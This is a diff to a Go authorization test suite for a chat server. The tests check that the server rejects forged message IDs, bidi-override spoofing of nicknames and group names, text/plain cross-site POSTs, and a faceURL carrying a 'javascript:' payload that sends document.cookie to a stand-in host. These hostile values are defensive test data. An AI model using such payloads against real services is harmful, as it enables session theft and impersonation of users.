@@ -160,6 +160,17 @@ func TestAuthorizationMatrix(t *testing.T) {
 		{name: "send one-to-one as blocked user", as: "dave", typ: protocol.ReqSend, data: sendTo("alice", ""), want: protocol.CodePermissionDenied},
 		{name: "send one-to-one as stranger (allowed by default), forging the sender", as: "mallory", typ: protocol.ReqSend,
 			data: map[string]any{"clientMsgID": "forged", "recvID": "bob", "sendID": "alice", "contentType": "text", "content": map[string]string{"text": "from alice, honest"}}},
+		{name: "send reusing one's clientMsgID for another recipient", as: "mallory", typ: protocol.ReqSend,
+			data: map[string]any{"clientMsgID": "forged", "recvID": "alice", "contentType": "text", "content": map[string]string{"text": "to alice now"}}, want: protocol.CodeAlreadyExists},
+		{name: "send reusing alice's clientMsgID is the caller's own message", as: "mallory", typ: protocol.ReqSend,
+			data: map[string]any{"clientMsgID": "dm1", "recvID": "bob", "contentType": "text", "content": map[string]string{"text": "mine"}},
+			check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
+				var r protocol.SendResp
+				json.Unmarshal(d, &r)
+				if r.Duplicate || r.ConversationID != protocol.SingleConversationID("bob", "mallory") {
+					t.Errorf("answered with another's message: %s", d)
+				}
+			}},
 
 		{name: "sync as wrong user", as: "mallory", typ: protocol.ReqSync, data: protocol.SyncReq{}, check: ownOnly},
 		{name: "sync as kicked member", as: "carl", typ: protocol.ReqSync, data: protocol.SyncReq{}, check: noNewSecrets},
@@ -194,6 +205,8 @@ func TestAuthorizationMatrix(t *testing.T) {
 				t.Errorf("setSelf answered %s", d)
 			}
 		}},
+		{name: "user.setSelf posing as alice with a bidi override", as: "mallory", typ: protocol.ReqSetSelf, data: map[string]string{"nickname": "\u202Eecila"}, want: protocol.CodeInvalidArgument},
+		{name: "user.setSelf with a script for a face", as: "mallory", typ: protocol.ReqSetSelf, data: map[string]string{"faceURL": "javascript:fetch('//evil/'+document.cookie)"}, want: protocol.CodeInvalidArgument},
 		{name: "user.find shows a public profile only", as: "mallory", typ: protocol.ReqFindUser, data: protocol.FindUserReq{Username: "nobody-here"}, want: protocol.CodeNotFound},
 
 		{name: "friend.add as blocked user", as: "dave", typ: protocol.ReqAddFriend, data: protocol.AddFriendReq{UserID: "alice"}, want: protocol.CodePermissionDenied},
@@ -207,6 +220,7 @@ func TestAuthorizationMatrix(t *testing.T) {
 		}},
 
 		{name: "group.create by anyone", as: "mallory", typ: protocol.ReqCreateGroup, data: protocol.CreateGroupReq{Name: "mine", MemberUserIDs: []string{"dave"}}},
+		{name: "group.create posing as the private group", as: "mallory", typ: protocol.ReqCreateGroup, data: protocol.CreateGroupReq{Name: "\u2066" + privateGroupNm + "\u2069", MemberUserIDs: []string{"dave"}}, want: protocol.CodeInvalidArgument},
 		{name: "group.list as non-member", as: "mallory", typ: protocol.ReqListGroups, check: ownOnly},
 		{name: "group.list as kicked member", as: "carl", typ: protocol.ReqListGroups, check: ownOnly},
 		{name: "group.members as non-member", as: "mallory", typ: protocol.ReqGetGroupMembers, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
@@ -346,7 +360,7 @@ func TestAuthorizationMatrix(t *testing.T) {
 			t.Errorf("stored with sender %q: %+v", m.SendID, m)
 		}
 	}
-	if len(forged.Messages) != 1 {
+	if len(forged.Messages) != 2 { // "forged", and mallory's own "dm1"
 		t.Errorf("bob and mallory's messages: %+v", forged.Messages)
 	}
 	conn("dave").wantError(protocol.ReqSend, sendTo("alice", ""), protocol.CodePermissionDenied)
@@ -426,7 +440,29 @@ func TestAuthorizationMatrixHTTP(t *testing.T) {
 			}
 		})
 	}
+	// Bodies that are not declared JSON are refused whoever sends them:
+	// a cross-site form can post text/plain with the victim's cookies or
+	// from the victim's network.
+	for _, route := range e.srv.APIRoutes() {
+		if bodies[route] == nil {
+			continue
+		}
+		t.Run(route+" as text/plain", func(t *testing.T) {
+			_, path, _ := strings.Cut(route, " ")
+			b, _ := json.Marshal(bodies[route])
+			req, _ := http.NewRequest(http.MethodPost, e.hs.URL+path, strings.NewReader(string(b)))
+			req.Header.Set("Content-Type", "text/plain")
+			if strings.Contains(route, "/admin/") {
+				req.Header.Set("Authorization", "Bearer "+adminSecret)
+			}
+			st, body := do(t, req)
+			wantHTTPError(t, st, body, http.StatusUnsupportedMediaType, protocol.CodeInvalidArgument)
+		})
+	}
 	// Nothing an attacker tried took effect.
+	if st, _ := e.post("/api/v1/auth/login", "", protocol.LoginReq{Username: "newbie", Password: "long enough"}); st != http.StatusOK {
+		t.Errorf("newbie's registration (the one allowed) did not take: %d", st)
+	}
 	if st, _ := e.post("/api/v1/admin/tokens", adminSecret, protocol.AdminTokenReq{UserID: "intruder"}); st != http.StatusNotFound {
 		t.Errorf("intruder was created: %d", st)
 	}
